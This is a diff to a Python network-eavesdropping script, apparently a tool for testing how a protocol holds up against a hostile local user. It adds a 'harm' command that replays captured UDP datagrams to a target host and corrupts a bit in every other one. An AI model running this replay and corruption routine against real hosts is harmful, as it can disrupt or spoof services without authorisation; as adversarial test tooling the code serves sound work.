@@ -2,6 +2,8 @@
 """eavesdropper.py record FILE: keeps all frames that pass the interfaces here, until it is terminated.
 eavesdropper.py casts FILE PORT GROUP...: joins the groups as another local user, on a port that others use too, and
 keeps what comes, until it is terminated.
+eavesdropper.py harm FILE ADDRESS COUNT: sends COUNT recorded datagrams to that host again, every other one with a wrong
+bit, and prints how many of both.
 As a module: what such a person can find in the frames."""
 import re
 import signal
@@ -43,6 +45,26 @@ def casts(file, port, groups):
         receiver.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                             struct.pack('<4s4si', socket.inet_aton(group), bytes(4), socket.if_nametoindex('eth0')))
     keep(file, receiver)
+
+
+def harm(file, address, count):
+    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    copies = []
+    for frame in read(file):
+        if frame[12:14] == b'\x08\x00' and frame[23] == 17 and frame[30:34] == socket.inet_aton(address):
+            copies.append((struct.unpack_from('>H', frame, 36)[0], frame[42:]))
+    sent = [0, 0]
+    for number in range(count if copies else 0):
+        port, payload = copies[number % len(copies)]
+        if number % 2 and payload:
+            at = number * 7919 % (8 * len(payload))
+            payload = payload[:at // 8] + bytes([payload[at // 8] ^ 1 << at % 8]) + payload[at // 8 + 1:]
+        try:
+            sender.sendto(payload, (address, port))
+            sent[number % 2] += 1
+        except OSError:
+            pass
+    print(*sent, flush=True)
 
 
 def read(file):
@@ -151,5 +173,7 @@ def acks(datagrams):
 if __name__ == '__main__':
     if sys.argv[1] == 'record':
         record(sys.argv[2])
+    elif sys.argv[1] == 'harm':
+        harm(sys.argv[2], sys.argv[3], int(sys.argv[4]))
     else:
         casts(sys.argv[2], int(sys.argv[3]), sys.argv[4:])
